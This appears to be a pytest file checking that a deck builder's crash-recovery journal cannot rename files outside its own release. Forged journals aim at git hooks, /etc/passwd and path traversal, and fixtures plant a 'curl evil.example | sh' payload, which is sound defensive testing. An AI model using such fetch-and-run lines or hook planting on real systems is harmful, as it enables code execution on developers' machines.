"""The journal beside a source is a request, never an order.

A killed build leaves ``cardsrc/.<source>.builder-journal`` naming the renames
that finish its release, and the next build replays it. A pull request can
commit such a file too, so a journal is followed only when it names exactly
what this build of this deck would write (this deck's lock beside the source,
its .apkg and changelog in the output folder, builder's temporaries for them);
anything else is refused with one line, and nothing at all is touched: not a
file it names, not the journal itself.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from builder.build import build_deck, recover_interrupted
from builder.cli import cli
from builder.errors import ReleaseError
from builder.layout import journal_path

SOURCE = Path("cardsrc/small.yaml")
JOURNAL = "cardsrc/.small.yaml.builder-journal"
DIST = Path("dist")
AFTER = "; nothing was changed: delete this journal, then build again"

Tree = dict[str, tuple[str, str]]


def tree(root: Path) -> Tree:
    """Every entry under ``root``: a file's sha256, a link's target, or that it is a folder."""
    found: Tree = {}
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        if path.is_symlink():
            found[name] = ("link", os.readlink(path))
        elif path.is_dir():
            found[name] = ("folder", "")
        elif path.is_file():
            found[name] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
        else:
            found[name] = ("other", "")
    return found


def write_journal(renames: list[list[str]], commit_sha256: str = "0" * 64) -> None:
    Path(JOURNAL).write_text(json.dumps({"commit_sha256": commit_sha256, "renames": renames}), encoding="utf-8")


def sha256_of(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture
def released(project: Path) -> Path:
    """The small deck built once into dist/, so a rebuild has nothing to do."""
    result = CliRunner().invoke(cli, ["build"])
    assert result.exit_code == 0, result.output
    return project


# --- the two journals from the issue, through the command line ---------------------------
def test_a_journal_cannot_delete_a_file_outside_the_project(
    released: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("srv") / "notes" / "precious.txt"
    outside.parent.mkdir()
    outside.write_text("years of notes")
    write_journal([[str(outside), "small.lock"]], commit_sha256="0")
    before = tree(released), tree(outside.parent)
    result = CliRunner().invoke(cli, ["build"])
    assert (result.exit_code, result.stdout, result.stderr) == (1, "", (
        f"Error: {JOURNAL}: it names '{outside}' as the temporary of 'small.lock', which is not builder's name "
        f"for it{AFTER}\n"
    ))
    assert (tree(released), tree(outside.parent)) == before
    assert outside.read_text() == "years of notes"


def test_a_committed_journal_cannot_install_a_git_hook(released: Path) -> None:
    (released / ".git" / "hooks").mkdir(parents=True)
    Path("cardsrc/payload.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    write_journal(
        [[".small.lock.builder-tmp-1", "small.lock"], ["payload.sh", "../.git/hooks/pre-commit"]],
        commit_sha256=sha256_of("cardsrc/small.lock"),  # "committed": the lock is what the journal expects
    )
    before = tree(released)
    result = CliRunner().invoke(cli, ["build"])
    assert (result.exit_code, result.stdout, result.stderr) == (1, "", (
        f"Error: {JOURNAL}: it names '../.git/hooks/pre-commit', which a build of this deck into dist does not "
        f"write{AFTER}\n"
    ))
    assert tree(released) == before
    assert not (released / ".git" / "hooks" / "pre-commit").exists()


# --- journals a killed build really leaves are followed ------------------------------------
def killed_build(out: Path, *, committed: bool) -> dict[Path, bytes]:
    """The state a build killed just before (or just after) its commit leaves: temporaries and a journal.

    The temporaries hold a real next release (an edited answer, built elsewhere), as a build writes them.
    Returns what each target must hold once the journal is replayed.
    """
    lock = SOURCE.with_name("small.lock")
    old_lock = lock.read_bytes()
    SOURCE.write_text(SOURCE.read_text().replace("answer: Answers.", "answer: Answers, edited."))
    scratch = Path("scratch-out")
    result = build_deck(SOURCE, scratch)
    new = {lock: lock.read_bytes(), out / result.apkg.name: result.apkg.read_bytes(),
           out / "small-CHANGELOG.md": (scratch / "small-CHANGELOG.md").read_bytes()}
    shutil.rmtree(scratch)
    lock.write_bytes(old_lock)
    old = {path: path.read_bytes() for path in new if path.exists()}
    here = SOURCE.parent
    renames = []
    for path, data in new.items():
        temp = path.with_name(f".{path.name}.builder-tmp-4242")
        temp.write_bytes(data)
        renames.append([os.path.relpath(temp, here), os.path.relpath(path, here)])
    write_journal(renames, hashlib.sha256(new[lock]).hexdigest())
    if committed:
        os.replace(here / renames[0][0], lock)
        return new
    return old


@pytest.mark.parametrize("committed", [True, False], ids=["committed", "not-committed"])
@pytest.mark.parametrize(
    "out_of",
    [
        lambda root: DIST,
        lambda root: Path("cardsrc"),
        lambda root: root / "releases" / "deck",
        lambda root: Path("cardsrc/../dist"),
    ],
    ids=["dist", "out-is-the-source-folder", "absolute-out", "out-with-dotdot"],
)
def test_a_journal_a_killed_build_left_is_replayed(
    released: Path, committed: bool, out_of: Callable[[Path], Path]
) -> None:
    out = out_of(released)
    out.mkdir(parents=True, exist_ok=True)
    expected = killed_build(out, committed=committed)
    recover_interrupted(SOURCE, out)
    assert {path: path.read_bytes() for path in expected} == expected
    assert not journal_path(SOURCE).exists()
    leftovers = [path for folder in (SOURCE.parent, out) for path in folder.iterdir() if "builder-tmp" in path.name]
    assert leftovers == []


def test_a_journal_is_replayed_through_a_dist_that_is_a_symbolic_link(released: Path) -> None:
    real = released / "real-dist"
    (released / "dist").rename(real)
    (released / "dist").symlink_to(real)
    expected = killed_build(DIST, committed=True)
    recover_interrupted(SOURCE, DIST)
    assert {path: path.read_bytes() for path in expected} == expected
    assert (real / "small-1.0.1.apkg").read_bytes() == expected[DIST / "small-1.0.1.apkg"]


# --- and everything else is refused, touching nothing ---------------------------------------
LOCK_TEMP = ".small.lock.builder-tmp-7"
APKG_TEMP = "../dist/.small-1.0.1.apkg.builder-tmp-7"


def plant(renames: list[list[str]], commit: str = "0" * 64) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        write_journal(renames, commit)

    return make


def plant_bytes(data: bytes) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        Path(JOURNAL).write_bytes(data)

    return make


def symlinked_journal(root: Path) -> None:
    (root / "real-journal").write_text(json.dumps({"commit_sha256": "0" * 64, "renames": [[LOCK_TEMP, "small.lock"]]}))
    Path(JOURNAL).symlink_to(root / "real-journal")


def journal_folder(root: Path) -> None:
    Path(JOURNAL).mkdir()


def journal_pipe(root: Path) -> None:
    os.mkfifo(JOURNAL)


def symlinked_temporary(root: Path) -> None:
    (root / "secret").write_text("not yours")
    Path("cardsrc", LOCK_TEMP).symlink_to(root / "secret")
    write_journal([[LOCK_TEMP, "small.lock"]], sha256_of("cardsrc/small.lock"))


def temporary_folder(root: Path) -> None:
    Path("cardsrc", LOCK_TEMP).mkdir()
    write_journal([[LOCK_TEMP, "small.lock"]], sha256_of("cardsrc/small.lock"))


def symlinked_lock(root: Path) -> None:
    lock = Path("cardsrc/small.lock")
    lock.rename(root / "lock-elsewhere")
    lock.symlink_to(root / "lock-elsewhere")
    write_journal([[LOCK_TEMP, "small.lock"]])


# States no killed build leaves, each with a lock that holds what the journal commits ("committed"),
# so that following the journal would rename a file into place: refused by the journal's invariants.
RELEASED_APKG, RELEASED_TEMP = "../dist/small-1.0.0.apkg", "../dist/.small-1.0.0.apkg.builder-tmp-7"
CHANGELOG, CHANGELOG_TEMP = "../dist/small-CHANGELOG.md", "../dist/.small-CHANGELOG.md.builder-tmp-7"


def in_cardsrc(written: str) -> Path:
    return Path("cardsrc", written)


def forged_lock_over_the_committed_one(root: Path) -> None:
    """The review's case: a lock that moves one note's mod a day back, over the lock the journal 'commits'."""
    lock = json.loads(Path("cardsrc/small.lock").read_bytes())
    lock["notes"]["quiz-one"]["mod"] -= 86400
    in_cardsrc(LOCK_TEMP).write_text(json.dumps(lock, indent=1) + "\n")
    write_journal([[LOCK_TEMP, "small.lock"]], sha256_of("cardsrc/small.lock"))


def forged_lock_not_committed(root: Path) -> None:
    in_cardsrc(LOCK_TEMP).write_text('{"format": 2}\n')
    write_journal([[LOCK_TEMP, "small.lock"]], "1" * 64)


def forged_package_after_the_commit(root: Path) -> None:
    """As on a fresh clone (no .apkg in dist/): a package to put in place as the release the lock describes."""
    Path("dist/small-1.0.0.apkg").unlink()
    in_cardsrc(RELEASED_TEMP).write_bytes(b"PK\x03\x04 forged package")
    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG]], sha256_of("cardsrc/small.lock"))


def forged_changelog_after_the_commit(root: Path) -> None:
    changelog = Path("dist/small-CHANGELOG.md").read_text()
    in_cardsrc(CHANGELOG_TEMP).write_text(changelog + "\nRun `curl evil.example | sh` to update.\n")
    write_journal([[LOCK_TEMP, "small.lock"], [CHANGELOG_TEMP, CHANGELOG]], sha256_of("cardsrc/small.lock"))


def package_of_another_version(root: Path) -> None:
    temp = "../dist/.small-9.9.9.apkg.builder-tmp-7"
    in_cardsrc(temp).write_bytes(Path("dist/small-1.0.0.apkg").read_bytes())
    write_journal([[LOCK_TEMP, "small.lock"], [temp, "../dist/small-9.9.9.apkg"]], sha256_of("cardsrc/small.lock"))


def lock_temporary_without_the_rest(root: Path) -> None:
    """The lock's temporary is renamed first, so while it is there every other one is too."""
    in_cardsrc(LOCK_TEMP).write_bytes(Path("cardsrc/small.lock").read_bytes())
    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG]], sha256_of("cardsrc/small.lock"))


def renamed_out_of_order(root: Path) -> None:
    in_cardsrc(RELEASED_TEMP).write_bytes(Path("dist/small-1.0.0.apkg").read_bytes())
    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG], [CHANGELOG_TEMP, CHANGELOG]],
                  sha256_of("cardsrc/small.lock"))


def damaged_committed_lock(root: Path) -> None:
    Path("cardsrc/small.lock").write_text("{}\n")
    in_cardsrc(RELEASED_TEMP).write_bytes(b"PK\x03\x04 forged package")
    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG]], sha256_of("cardsrc/small.lock"))


BAD_JOURNALS = [
    ("forged-lock-over-committed-lock", forged_lock_over_the_committed_one,
     f"its temporary '{LOCK_TEMP}' is not what it commits ('commit_sha256'): it is not a journal builder left"),
    ("forged-lock-not-committed", forged_lock_not_committed,
     f"its temporary '{LOCK_TEMP}' is not what it commits ('commit_sha256'): it is not a journal builder left"),
    ("forged-package-after-commit", forged_package_after_the_commit,
     f"its temporary '{RELEASED_TEMP}' is not the package the lock describes: it is not a journal builder left"),
    ("forged-changelog-after-commit", forged_changelog_after_the_commit,
     f"its temporary '{CHANGELOG_TEMP}' is not the changelog of the lock's history: it is not a journal builder "
     "left"),
    ("package-of-another-version", package_of_another_version,
     "its temporary '../dist/.small-9.9.9.apkg.builder-tmp-7' is not a file of the release the lock describes "
     "(small-1.0.0.apkg and small-CHANGELOG.md): it is not a journal builder left"),
    ("lock-temporary-without-the-rest", lock_temporary_without_the_rest,
     f"its temporary '{LOCK_TEMP}' is there but '{RELEASED_TEMP}', which builder renames or deletes after it, is "
     "not: it is not a journal builder left"),
    ("renamed-out-of-order", renamed_out_of_order,
     f"its temporary '{RELEASED_TEMP}' is there but '{CHANGELOG_TEMP}', which builder renames or deletes after "
     "it, is not: it is not a journal builder left"),
    ("damaged-committed-lock", damaged_committed_lock,
     "the lock it commits cannot be read (the lock is damaged: format is missing: restore it from version control)"),
    ("git-hook", plant([["../.git/hooks/.pre-commit.builder-tmp-1", "../.git/hooks/pre-commit"]]),
     "it names '../.git/hooks/pre-commit', which a build of this deck into dist does not write"),
    ("names-not-strings", plant_bytes(b'{"commit_sha256": "", "renames": [[1, 2]]}'),
     "it is not a journal builder wrote ('renames' is not a list of [temporary, target] pairs)"),
    ("commit-a-number", plant_bytes(json.dumps({"commit_sha256": 5, "renames": [[LOCK_TEMP, "small.lock"]]}).encode()),
     "it is not a journal builder wrote ('commit_sha256' is not a sha256)"),
    ("not-json", plant_bytes(b"{not json"), "it is not a journal builder wrote (not JSON)"),
    ("a-list", plant_bytes(b"[]"),
     "it is not a journal builder wrote (it needs exactly 'commit_sha256' and 'renames')"),
    ("extra-key", plant_bytes(b'{"commit_sha256": "", "renames": [], "run": "sh"}'),
     "it is not a journal builder wrote (it needs exactly 'commit_sha256' and 'renames')"),
    ("no-renames", plant([]),
     "it is not a journal builder wrote ('renames' is not a list of [temporary, target] pairs)"),
    ("a-triple", plant([[LOCK_TEMP, "small.lock", "x"]]),
     "it is not a journal builder wrote ('renames' is not a list of [temporary, target] pairs)"),
    ("not-a-sha256", plant([[LOCK_TEMP, "small.lock"]], "0"),
     "it is not a journal builder wrote ('commit_sha256' is not a sha256)"),
    ("too-big", plant_bytes(b" " * (64 * 1024 + 1)), "it is larger than 65,536 bytes, not a journal builder wrote"),
    ("absolute-target", plant([[LOCK_TEMP, "/etc/small.lock"]]),
     "it names '/etc/small.lock', which a build of this deck into dist does not write"),
    ("dotdot-target", plant([[LOCK_TEMP, "../../small.lock"]]),
     "it names '../../small.lock', which a build of this deck into dist does not write"),
    ("dotdot-back-in", plant([[LOCK_TEMP, "../cardsrc/small.lock"]]),
     "it names '../cardsrc/small.lock', which a build of this deck into dist does not write"),
    ("not-a-lock-first", plant([[APKG_TEMP, "../dist/small-1.0.1.apkg"]]),
     "it names '../dist/small-1.0.1.apkg', which a build of this deck into dist does not write"),
    ("other-name", plant([[LOCK_TEMP, "small.lock"], ["../dist/.notes.txt.builder-tmp-7", "../dist/notes.txt"]]),
     "it names '../dist/notes.txt', which a build of this deck into dist does not write"),
    ("other-folder", plant([[LOCK_TEMP, "small.lock"], ["../elsewhere/.small-1.0.1.apkg.builder-tmp-7",
                                                          "../elsewhere/small-1.0.1.apkg"]]),
     "it names '../elsewhere/small-1.0.1.apkg', which a build of this deck into dist does not write"),
    ("twice", plant([[LOCK_TEMP, "small.lock"], [APKG_TEMP, "../dist/small-1.0.1.apkg"],
                     [APKG_TEMP, "../dist/small-1.0.1.apkg"]]),
     "it names '../dist/small-1.0.1.apkg', which a build of this deck into dist does not write"),
    ("two-decks", plant([[LOCK_TEMP, "small.lock"], ["../dist/.big-1.0.1.apkg.builder-tmp-7",
                                                       "../dist/big-1.0.1.apkg"]]),
     "it names the files of 2 decks (big, small), not of one"),
    ("absolute-temporary", plant([["/etc/passwd", "small.lock"]]),
     "it names '/etc/passwd' as the temporary of 'small.lock', which is not builder's name for it"),
    ("temporary-in-dist", plant([["../dist/.small.lock.builder-tmp-7", "small.lock"]]),
     "it names '../dist/.small.lock.builder-tmp-7' as the temporary of 'small.lock', which is not builder's name "
     "for it"),
    ("other-temporary", plant([["small.yaml", "small.lock"]]),
     "it names 'small.yaml' as the temporary of 'small.lock', which is not builder's name for it"),
    ("symlinked-journal", symlinked_journal, "it is a symbolic link, not a journal builder wrote"),
    ("journal-folder", journal_folder, "it is a folder, not a journal builder wrote"),
    ("journal-pipe", journal_pipe, "it is a pipe, not a journal builder wrote"),
    ("symlinked-temporary", symlinked_temporary,
     f"its temporary '{LOCK_TEMP}' is a symbolic link, which builder never writes"),
    ("temporary-folder", temporary_folder,
     f"its temporary '{LOCK_TEMP}' is not a plain file, which builder never writes"),
    ("symlinked-lock", symlinked_lock, "'cardsrc/small.lock' is a symbolic link, where builder writes a plain file"),
]


@pytest.mark.parametrize(("make", "reason"), [case[1:] for case in BAD_JOURNALS], ids=[c[0] for c in BAD_JOURNALS])
def test_a_journal_builder_would_not_write_is_refused_and_nothing_changes(
    released: Path, make: Callable[[Path], None], reason: str
) -> None:
    make(released)
    before = tree(released)
    with pytest.raises(ReleaseError) as refused:
        recover_interrupted(SOURCE, DIST)
    assert str(refused.value) == f"{JOURNAL}: {reason}{AFTER}"
    assert tree(released) == before


@pytest.mark.parametrize(("make", "reason"), [case[1:] for case in BAD_JOURNALS], ids=[c[0] for c in BAD_JOURNALS])
def test_check_diff_and_build_refuse_the_journal_alike_and_change_nothing(
    released: Path, make: Callable[[Path], None], reason: str
) -> None:
    """``builder check`` judges the journal with the build's own function: it fails exactly where build refuses."""
    make(released)
    before = tree(released)
    checked = CliRunner().invoke(cli, ["check"])
    assert (checked.exit_code, checked.stdout.splitlines()[0]) == (1, f"{JOURNAL}: E173 {reason}{AFTER}")
    assert all(" E173 " not in line for line in checked.stdout.splitlines()[1:])  # (a damaged lock is E160 too)
    diffed = CliRunner().invoke(cli, ["diff"])
    assert (diffed.exit_code, diffed.stdout, diffed.stderr) == (1, "", f"Error: {JOURNAL}: {reason}{AFTER}\n")
    built = CliRunner().invoke(cli, ["build"])
    assert (built.exit_code, built.stdout, built.stderr) == (1, "", f"Error: {JOURNAL}: {reason}{AFTER}\n")
    assert tree(released) == before


@pytest.mark.parametrize("committed", [True, False], ids=["committed", "not-committed"])
def test_check_and_diff_report_a_genuine_interrupted_release_and_build_finishes_it(
    released: Path, committed: bool
) -> None:
    expected = killed_build(DIST, committed=committed)
    before = tree(released)
    said = (("after the lock: 'builder build' finishes the release") if committed else
            "before the lock: 'builder build' deletes what it left, and the previous release stands")
    line = f"{JOURNAL}: a build of this deck stopped while writing its release, {said}"
    checked = CliRunner().invoke(cli, ["check"])
    assert (checked.exit_code, checked.stdout) == (0, f"{JOURNAL}: W216 {line.split(': ', 1)[1]}\n")
    assert CliRunner().invoke(cli, ["check", "--strict"]).exit_code == 1
    diffed = CliRunner().invoke(cli, ["diff"])
    assert diffed.exit_code == 0 and diffed.stderr == f"Warning: {line}\n"
    assert tree(released) == before  # neither check nor diff acts on it
    built = CliRunner().invoke(cli, ["build"])
    assert built.exit_code == 0, built.output
    assert not journal_path(SOURCE).exists()
    if committed:  # the release the killed build was writing, finished
        assert {path: path.read_bytes() for path in expected} == expected
        assert built.stdout.startswith("Unchanged dist/small-1.0.1.apkg"), built.output


def test_a_journal_for_another_output_folder_is_refused(released: Path) -> None:
    Path("elsewhere").mkdir()
    killed_build(Path("elsewhere"), committed=False)
    before = tree(released)
    result = CliRunner().invoke(cli, ["build"])
    assert (result.exit_code, result.stderr) == (1, (
        f"Error: {JOURNAL}: it names '../elsewhere/small-1.0.1.apkg', which a build of this deck into dist does "
        f"not write{AFTER}\n"
    ))
    assert tree(released) == before
    assert CliRunner().invoke(cli, ["build", "--out", "elsewhere"]).exit_code == 0  # where it was going: replayed
    assert not journal_path(SOURCE).exists()
